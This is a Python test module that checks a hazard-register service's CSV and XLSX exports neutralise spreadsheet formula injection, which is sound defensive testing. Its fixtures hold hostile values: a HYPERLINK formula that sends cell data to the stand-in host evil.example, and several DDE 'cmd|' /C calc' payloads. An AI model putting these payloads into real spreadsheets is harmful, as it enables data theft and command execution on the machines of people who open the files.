"""User text in every CSV and XLSX the service writes stays text, never a formula.

A hostile enterprise name or hazard description (the classic
``=HYPERLINK(…)`` and ``-2+3+cmd|' /C calc'!A0``) is written into the
register, then every export is downloaded through the application (or built
by its service) and read back with openpyxl and the csv module, as the
person opening the file would.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from helpers import credit_code
from openpyxl import load_workbook
from sqlalchemy import text

from geo_service.queries import metrics
from geo_service.queries.scope import ALL
from geo_service.services import importers
from geo_service.services.exports import export_rows
from geo_service.services.spreadsheet import csv_value
from geo_service.services.statistics import compute_return
from geo_service.services.validation import FieldError
from geo_service.services.workbook import build_workbook

# Hostile values, one per field; each starts with a character a spreadsheet reads as a formula.
NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
DESCRIPTION = "-2+3+cmd|' /C calc'!A0"
MEASURES = "@SUM(1+1)*cmd|' /C calc'!A0"
FOUND_BY = "+1+cmd|' /C calc'!A0"
RESP = "\t=1+1"
LEGAL_REP = "\r=1+1"
COUNTY = '=HYPERLINK("http://evil.example","甲县")'
HOSTILE = (NAME, DESCRIPTION, MEASURES, FOUND_BY, RESP, LEGAL_REP)


@pytest.fixture
def hostile(session):  # type: ignore[no-untyped-def]
    """One county whose name is a formula, one enterprise and one major hazard full of formulas."""
    session.execute(text(
        "INSERT INTO region (code, name, level, parent_code, geom) VALUES"
        " ('539900', '测试州', 'prefecture', NULL, ST_Multi(ST_MakeEnvelope(100, 20, 102, 21, 4326))),"
        " ('539901', :county, 'county', '539900', ST_Multi(ST_MakeEnvelope(100, 20, 101, 21, 4326)))"),
        {"county": COUNTY})
    eid = session.execute(text(
        "INSERT INTO enterprise (credit_code, name, industry_code, legal_rep, contact_phone, geom) VALUES"
        " (:c, :n, 'hazchem', :rep, '+86 873 1234567', ST_SetSRID(ST_MakePoint(100.5, 20.5), 4326))"
        " RETURNING id"), {"c": credit_code(1, "539901"), "n": NAME, "rep": LEGAL_REP}).scalar_one()
    session.execute(text(
        "INSERT INTO risk_point (enterprise_id, name, grade) VALUES (:e, '液氯储罐', 1)"), {"e": eid})
    session.execute(text(
        "INSERT INTO hazard (enterprise_id, description, level, source, found_on, deadline, measures,"
        " found_by, resp_person, funds_wan)"
        " VALUES (:e, :d, 'major', 'inspection', '2026-10-01', '2026-12-31', :m, :f, :r, 12.5)"),
        {"e": eid, "d": DESCRIPTION, "m": MEASURES, "f": FOUND_BY, "r": RESP})
    session.commit()
    return eid


def _xlsx_cells(data: bytes) -> list:  # type: ignore[type-arg]
    book = load_workbook(io.BytesIO(data))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_text_not_formula(data: bytes, expected: tuple[str, ...]) -> None:
    """Every hostile value is in the workbook verbatim, and no cell at all is a formula."""
    found = _xlsx_cells(data)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    values = [c.value for c in found]
    for value in expected:
        assert any(isinstance(v, str) and value in v for v in values), f"{value!r} missing"
    starting = [c for c in found if c.value in expected]
    assert starting, "no cell holds a hostile value on its own"
    assert all(c.data_type == "s" for c in starting)


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+1", "@A1", "\tx", "\rx"])
def test_csv_text_with_a_formula_trigger_is_quoted(value):
    assert csv_value(value) == "'" + value


@pytest.mark.parametrize("value", ["红河化工", "1+1", "'=1", "", -5, -2.5, Decimal("-1.5"), None])
def test_csv_leaves_other_text_and_numbers_alone(value):
    assert csv_value(value) == value


# --------------------------------------------------------------------------- API downloads


def test_api_csv_download_quotes_formula_text(client, hostile):
    hazards = _csv_cells(client.get("/api/hazards?format=csv").data)
    for value in (NAME, DESCRIPTION, MEASURES, FOUND_BY, RESP):
        assert "'" + value in hazards, value
        assert value not in hazards
    enterprises = _csv_cells(client.get("/api/enterprises?format=csv").data)
    assert "'" + NAME in enterprises and "'" + LEGAL_REP in enterprises
    assert "'+86 873 1234567" in enterprises


def test_api_xlsx_download_stores_formula_text_as_text(client, hostile):
    _assert_text_not_formula(client.get("/api/hazards?format=xlsx").data,
                             (NAME, DESCRIPTION, MEASURES, FOUND_BY, RESP))
    _assert_text_not_formula(client.get("/api/enterprises?format=xlsx").data, (NAME, LEGAL_REP))


def test_numbers_stay_numbers_in_csv_and_xlsx():
    rows = [{"id": 3, "name": "=1+1", "lng": -70.25, "lat": -33.5, "distance_m": Decimal("-1.5")}]
    cells = _csv_cells(export_rows("enterprises", rows, "csv")[0])
    assert cells[-5:] == ["3", "'=1+1", "-1.5", "-70.25", "-33.5"]
    ws = load_workbook(io.BytesIO(export_rows("enterprises", rows, "xlsx")[0])).active
    assert [c.value for c in ws[2]] == [3, "=1+1", -1.5, -70.25, -33.5]
    assert [c.data_type for c in ws[2]] == ["n", "s", "n", "n", "n"]


# --------------------------------------------------------------------------- ledgers (附件4, 附件5)


def test_ledger_workbooks_store_formula_text_as_text(client, hostile):
    for url in ("/hazards/export/checklist.xlsx", "/hazards/export/worklog.xlsx"):
        resp = client.get(url)
        assert resp.status_code == 200
        _assert_text_not_formula(resp.data, (NAME, DESCRIPTION))


# --------------------------------------------------------------------------- the return's workbook


def test_return_workbook_stores_a_formula_region_name_as_text(session, hostile):
    numbers = compute_return(session, "539900", metrics.period(2026, 10), scope=ALL, unit="测试",
                             filled_on=dt.date(2026, 11, 5))
    data = build_workbook(numbers)
    _assert_text_not_formula(data, (COUNTY,))


# --------------------------------------------------------------------------- import rejects


def _result() -> importers.ImportResult:
    result = importers.ImportResult(kind="enterprises", headers=["企业名称", "法定代表人", "经度"])
    result.rejected_rows.append((2, {"企业名称": NAME, "法定代表人": DESCRIPTION, "经度": -5.5},
                                 [FieldError(2, "经度", "经度应在 73 到 136 之间")]))
    return result


def test_rejected_rows_file_keeps_formula_text_as_text(tmp_path):
    xlsx = importers.write_rejects(_result(), tmp_path / "rejects.xlsx")
    _assert_text_not_formula(xlsx.read_bytes(), (NAME, DESCRIPTION))
    ws = load_workbook(xlsx).active
    assert ws["C2"].value == -5.5 and ws["C2"].data_type == "n"
    cells = _csv_cells(importers.write_rejects(_result(), tmp_path / "rejects.csv").read_bytes())
    assert "'" + NAME in cells and "'" + DESCRIPTION in cells and "-5.5" in cells
